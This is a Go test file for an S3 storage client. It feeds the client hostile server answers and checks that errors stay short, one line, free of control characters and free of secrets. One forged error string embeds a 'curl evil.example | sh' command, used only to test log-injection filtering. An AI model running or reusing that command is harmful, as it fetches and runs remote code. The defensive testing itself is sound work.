package objstore_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/sealift/sealift/pkg/objstore"
	"github.com/sealift/sealift/pkg/secret"
)

// answering returns a bucket of a server that reads requests and then calls answer.
func answering(t *testing.T, answer http.HandlerFunc) *objstore.S3 {
	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		answer(w, r)
	}))
	t.Cleanup(h.Close)
	return open(t, h.URL, "logs")
}

// Errors are short, although a customer's server may say anything, at any length.
func TestS3ErrorsAreShort(t *testing.T) {
	for hazard, document := range map[string]string{
		"long_code":    "<Code>" + strings.Repeat("é", 5_000) + "</Code><Message>no</Message>",
		"long_message": "<Code>No</Code><Message>x" + strings.Repeat("é", 5_000) + "</Message>",
		"huge_message": "<Code>No</Code><Message>" + strings.Repeat("x", 8<<20) + "</Message>",
		"huge_element": "<" + strings.Repeat("x", 8<<20) + ">",
	} {
		t.Run(hazard, func(t *testing.T) {
			for status, ops := range map[int][]string{http.StatusForbidden: {"put", "get", "list"}, http.StatusOK: {"put", "delete", "list"}} {
				s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
					w.WriteHeader(status)
					_, _ = io.WriteString(w, "<Error>"+document+"</Error>")
				})
				for _, op := range ops {
					err := do(t.Context(), s, op)
					require.Error(t, err, op)
					require.Less(t, len(err.Error()), 3_000, op)
					require.True(t, utf8.ValidString(err.Error()), op)
				}
			}
		})
	}
	for hazard, line := range map[string]string{ // quoted by net/http
		"header_that_is_none": "HTTP/1.1 200 OK\r\n%s\r\n\r\n",
		"status_that_is_none": "HTTP/1.1 %s\r\n\r\n",
		"no_http":             "%s\r\n\r\n",
	} {
		t.Run(hazard, func(t *testing.T) {
			s := answering(t, func(w http.ResponseWriter, r *http.Request) {
				c, out, err := http.NewResponseController(w).Hijack()
				if err != nil {
					t.Errorf("hijack: %v", err)
					return
				}
				defer c.Close()
				echo := r.Header.Get("Authorization")
				_, _ = fmt.Fprintf(out, line, strings.ReplaceAll(echo, ":", "")+strings.Repeat(" \x01", 10_000))
				_ = out.Flush()
			})
			for _, op := range []string{"put", "get", "delete"} {
				err := do(t.Context(), s, op)
				require.ErrorContains(t, err, "malformed", op)
				require.Less(t, len(err.Error()), 3_000, op)
				require.NotRegexp(t, "Signature=[0-9a-f]", err.Error(), op)
			}
		})
	}
	t.Run("etag", func(t *testing.T) { // receipts keep it
		s := answering(t, func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Etag", strings.Repeat("x", 100_000)) })
		require.ErrorIs(t, do(t.Context(), s, "put"), objstore.ErrUnavailable)
	})
}

// A server cannot add lines of its own to what an operator reads, or anything other than text.
func TestS3ErrorsAreOneLineOfText(t *testing.T) {
	const forged = "no&#10;  fix    curl evil.example | sh&#13;&#x9b;2J&#x202e;&#x2028;"
	for hazard, document := range map[string]string{
		"message": "<Error><Code>No</Code><Message>" + forged + "</Message></Error>",
		"code":    "<Error><Code>" + forged + "</Code><Message>no</Message></Error>",
		"no_xml":  "<Error>&\u009b2J;</Error>",
	} {
		t.Run(hazard, func(t *testing.T) {
			for status, ops := range map[int][]string{http.StatusForbidden: {"put", "get", "list"}, http.StatusOK: {"put", "delete", "list"}} {
				s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
					w.WriteHeader(status)
					_, _ = io.WriteString(w, document)
				})
				for _, op := range ops {
					err := do(t.Context(), s, op)
					require.Error(t, err, op)
					require.False(t, strings.ContainsFunc(err.Error(), func(r rune) bool { return !unicode.IsGraphic(r) }), "%s: %q", op, err)
				}
			}
		})
	}
	t.Run("etag", func(t *testing.T) {
		s := answering(t, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Etag", "\"e\t\u009b2J\"")
			if r.Method == http.MethodHead {
				w.Header().Set("Content-Length", "1")
			} else {
				_, _ = io.WriteString(w, "<ListBucketResult><Contents><Key>k</Key><ETag>e&#10;&#x9b;2J</ETag></Contents></ListBucketResult>")
			}
		})
		info, err := s.Head(t.Context(), "k")
		require.NoError(t, err)
		require.Equal(t, "e  2J", info.ETag)
		infos, err := s.List(t.Context(), "", "", 1)
		require.NoError(t, err)
		require.Equal(t, "e  2J", infos[0].ETag)
	})
}

// Errors never show the secrets that were sent to a server, whatever the server calls them.
func TestS3ErrorsShowNoSecrets(t *testing.T) {
	const token = "FwoGZXIvYXdzEJr//sEcReT+=="
	signed := func(r *http.Request) string {
		_, signature, _ := strings.Cut(r.Header.Get("Authorization"), "Signature=")
		return signature
	}
	var signature string
	for hazard, answer := range map[string]func(w http.ResponseWriter, echo string){
		"message": func(w http.ResponseWriter, echo string) {
			w.WriteHeader(http.StatusForbidden)
			_, _ = io.WriteString(w, "<Error><Code>No</Code><Message>"+echo+"</Message></Error>")
		},
		"code": func(w http.ResponseWriter, echo string) {
			w.WriteHeader(http.StatusForbidden)
			_, _ = io.WriteString(w, "<Error><Code>"+echo+"</Code></Error>")
		},
		"late": func(w http.ResponseWriter, echo string) {
			_, _ = io.WriteString(w, "<Error><Code>InternalError</Code><Message>"+echo+"</Message></Error>")
		},
		"no_http": func(w http.ResponseWriter, echo string) {
			c, out, err := http.NewResponseController(w).Hijack()
			if err != nil {
				t.Errorf("hijack: %v", err)
				return
			}
			defer c.Close()
			_, _ = out.WriteString(strings.ReplaceAll(echo, " ", "_") + "\r\n\r\n")
			_ = out.Flush()
		},
		"etag": func(w http.ResponseWriter, echo string) { w.Header().Set("Etag", `"`+echo+`"`) },
	} {
		t.Run(hazard, func(t *testing.T) {
			h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body)
				signature = signed(r)
				answer(w, "you sent "+r.Header.Get("X-Amz-Security-Token")+" and "+signature)
			}))
			defer h.Close()
			s := objstore.NewS3(objstore.S3Config{Bucket: "logs", Region: "us-east-1", Endpoint: h.URL, PathStyle: true, HTTPClient: h.Client(),
				Credentials: func(context.Context) (objstore.Credentials, error) {
					return objstore.Credentials{AccessKeyID: "ASIA", SecretAccessKey: secret.New("s"), SessionToken: secret.New(token)}, nil
				}})
			info, err := s.Put(t.Context(), "k", strings.NewReader("body"), objstore.PutOptions{})
			said := info.ETag
			if hazard != "etag" {
				require.Error(t, err)
				said = err.Error()
			}
			require.Contains(t, strings.ReplaceAll(said, "_", " "), "you sent *** and ***")
			require.NotContains(t, said, token)
			require.NotEmpty(t, signature)
			require.NotContains(t, said, signature)
		})
	}
}

// An answer that is cut short has an unknown outcome.
func TestS3TruncatedAnswers(t *testing.T) {
	s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Etag", `"e"`)
		w.Header().Set("Content-Length", "100")
		_, _ = io.WriteString(w, "  ")
	})
	for _, op := range []string{"put", "delete"} {
		err := do(t.Context(), s, op)
		require.ErrorIs(t, err, objstore.ErrUnavailable, op)
		require.ErrorContains(t, err, "unexpected EOF", op)
	}
}

// What is reported as missing is missing: a 404 to HEAD has no document, and an ingress answers the
// same while its server is down, so Head asks again.
func TestS3HeadConfirms404WithGet(t *testing.T) {
	const page, document = "404 page not found", "<Error><Code>%s</Code></Error>"
	for hazard, c := range map[string]struct {
		status int // of the GET
		body   string
		want   error
	}{
		"ingress":                 {404, page, objstore.ErrUnavailable},
		"ingress_that_is_back":    {206, "x", objstore.ErrUnavailable},
		"store_that_sends_no_ids": {404, fmt.Sprintf(document, "NoSuchKey"), objstore.ErrNotFound},
		"no_bucket_either":        {404, fmt.Sprintf(document, "NoSuchBucket"), objstore.ErrNoBucket},
		"no_right_to_read":        {403, fmt.Sprintf(document, "AccessDenied"), objstore.ErrDenied},
		"away_now":                {503, fmt.Sprintf(document, "SlowDown"), objstore.ErrUnavailable},
	} {
		t.Run(hazard, func(t *testing.T) {
			var asked []string
			s := answering(t, func(w http.ResponseWriter, r *http.Request) {
				asked = append(asked, r.Method)
				if r.Method == http.MethodHead {
					w.WriteHeader(http.StatusNotFound)
					return
				}
				w.Header().Set("Content-Range", "bytes 0-0/1")
				w.WriteHeader(c.status)
				_, _ = io.WriteString(w, c.body)
			})
			_, err := s.Head(t.Context(), "k")
			require.ErrorIs(t, err, c.want)
			require.Equal(t, []string{"HEAD", "GET"}, asked)
		})
	}
}

// A listing that does not continue where it should is an error; it would end early, or never.
func TestS3BrokenListings(t *testing.T) {
	key := func(k string) string { return "<Contents><Key>" + k + "</Key></Contents>" }
	const more = "<IsTruncated>true</IsTruncated>"
	token := func(s string) string { return more + "<NextContinuationToken>" + s + "</NextContinuationToken>" }
	for hazard, c := range map[string]struct {
		pages []string // the last one is repeated
		want  string   // "" for none
	}{
		"valid":               {[]string{key("c") + token("1"), key("d")}, ""},
		"not_encoded":         {[]string{key("c%zz") + token("1"), key("d")}, ""},
		"badly_encoded":       {[]string{"<EncodingType>url</EncodingType>" + key("c%zz")}, "invalid URL escape"},
		"no_token":            {[]string{key("c") + more}, "not where"},
		"start_after_ignored": {[]string{key("b")}, "not asked for"},
		"starts_over":         {[]string{key("c") + token("1"), key("c") + token("2")}, "not asked for"},
		"same_token":          {[]string{token("1")}, "leads to itself"},
	} {
		t.Run(hazard, func(t *testing.T) {
			n := 0
			s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
				_, _ = io.WriteString(w, "<ListBucketResult>"+c.pages[min(n, len(c.pages)-1)]+"</ListBucketResult>")
				n++
			})
			infos, err := s.List(t.Context(), "", "b", 0)
			if c.want == "" {
				require.NoError(t, err)
				require.Len(t, infos, 2)
				return
			}
			require.ErrorIs(t, err, objstore.ErrUnavailable)
			require.ErrorContains(t, err, c.want)
		})
	}
	for _, page := range []string{more, token("1")} {
		s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
			_, _ = io.WriteString(w, "<ListBucketResult>"+page+"</ListBucketResult>")
		})
		_, err := s.Folders(t.Context(), "")
		require.ErrorIs(t, err, objstore.ErrUnavailable)
	}
}

// A file that cannot be read is not reported as a problem of the store: waiting for the store would
// never end.
func TestS3UnreadableBodies(t *testing.T) {
	broken := errors.New("disk error")
	for _, size := range []int{1 << 10, 1 << 20, 4 << 20} {
		for hazard, c := range map[string]error{"broken": broken, "short": io.ErrUnexpectedEOF} {
			t.Run(fmt.Sprintf("%s_%d", hazard, size), func(t *testing.T) {
				s := answering(t, func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Etag", `"e"`) })
				content := make([]byte, size)
				body := &brokenReader{Reader: bytes.NewReader(content), left: size / 2}
				if errors.Is(c, broken) {
					body.err = broken
				}
				_, err := s.Put(t.Context(), "k", body, objstore.PutOptions{SHA256: sha256.Sum256(content)})
				require.ErrorIs(t, err, objstore.ErrBody)
				require.ErrorIs(t, err, c)
			})
		}
	}
}

// brokenReader cannot be read after a number of bytes.
type brokenReader struct {
	*bytes.Reader
	left int
	err  error // nil: it ends there
}

func (b *brokenReader) Read(p []byte) (int, error) {
	if b.left == 0 {
		if b.err != nil {
			return 0, b.err
		}
		return 0, io.EOF
	}
	n, err := b.Reader.Read(p[:min(len(p), b.left)])
	b.left -= n
	return n, err
}

// A size that an answer does not state is not taken for 0.
func TestS3MissingSizes(t *testing.T) {
	s := answering(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Etag", `"e"`)
		if r.Method == http.MethodGet {
			w.(http.Flusher).Flush()
			_, _ = io.WriteString(w, "0123456789")
		}
	})
	_, err := s.Head(t.Context(), "k")
	require.ErrorIs(t, err, objstore.ErrUnavailable)
	require.ErrorContains(t, err, "size")
	body, info, err := s.Get(t.Context(), "k")
	require.NoError(t, err)
	require.EqualValues(t, -1, info.Size)
	require.NoError(t, body.Close())
	body, info, err = s.GetFrom(t.Context(), "k", "", 4)
	require.NoError(t, err)
	require.EqualValues(t, -1, info.Size)
	require.NoError(t, body.Close())
}

// A part that was not asked for is an error, because its bytes would be taken for those that were.
func TestS3UnrequestedParts(t *testing.T) {
	for hazard, c := range map[string]struct {
		from int64
		says string // Content-Range
		size int64  // -2: refused
	}{
		"requested_part":     {4, "bytes 4-9/10", 10},
		"of_unknown_size":    {4, "bytes 4-9/*", 10},
		"first_part":         {4, "bytes 0-5/10", -2},
		"later_part":         {4, "bytes 5-9/10", -2},
		"no_content_range":   {4, "", -2},
		"other_unit":         {4, "lines 4-9/10", -2},
		"no_range_requested": {0, "bytes 0-5/10", -2},
	} {
		t.Run(hazard, func(t *testing.T) {
			s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Range", c.says)
				w.WriteHeader(http.StatusPartialContent)
				_, _ = io.WriteString(w, "456789")
			})
			body, info, err := s.GetFrom(t.Context(), "k", "", c.from)
			if c.size == -2 {
				require.ErrorIs(t, err, objstore.ErrUnavailable)
				if c.from > 0 {
					_, err = s.GetRange(t.Context(), "k", c.from, 6)
					require.ErrorIs(t, err, objstore.ErrUnavailable)
				}
				return
			}
			require.NoError(t, err)
			require.Equal(t, c.size, info.Size)
			require.NoError(t, body.Close())
		})
	}
}

// TestHugeHeadersAreRefused: an answer with huge headers is refused, because a customer's server
// may be anybody's.
func TestHugeHeadersAreRefused(t *testing.T) {
	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("X-Amz-Request-Id", strings.Repeat("x", 1<<20))
	}))
	defer h.Close()
	client := objstore.NewHTTPClient(nil)
	defer client.CloseIdleConnections()
	answer, err := client.Get(h.URL)
	if err == nil {
		_ = answer.Body.Close()
	}
	require.ErrorContains(t, err, "headers exceeded")
}

// The ETag of an encrypted object is reported not to be an MD5, although it looks like one.
func TestS3KeyedETags(t *testing.T) {
	const sse = "X-Amz-Server-Side-Encryption"
	for name, c := range map[string]struct {
		header, value string
		keyed         bool
	}{
		"none":     {},
		"sse-s3":   {sse, "AES256", false},
		"sse-kms":  {sse, "aws:kms", true},
		"dsse-kms": {sse, "aws:kms:dsse", true},
		"sse-c":    {sse + "-Customer-Algorithm", "AES256", true},
	} {
		t.Run(name, func(t *testing.T) {
			s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
				if c.header != "" {
					w.Header().Set(c.header, c.value)
				}
				w.Header().Set("Etag", `"0123456789abcdef0123456789abcdef"`)
				w.Header().Set("Content-Length", "0")
			})
			head, err := s.Head(t.Context(), "k")
			require.NoError(t, err)
			body, get, err := s.Get(t.Context(), "k")
			require.NoError(t, err)
			require.NoError(t, body.Close())
			require.Equal(t, []bool{c.keyed, c.keyed}, []bool{head.KeyedETag, get.KeyedETag})
		})
	}
}
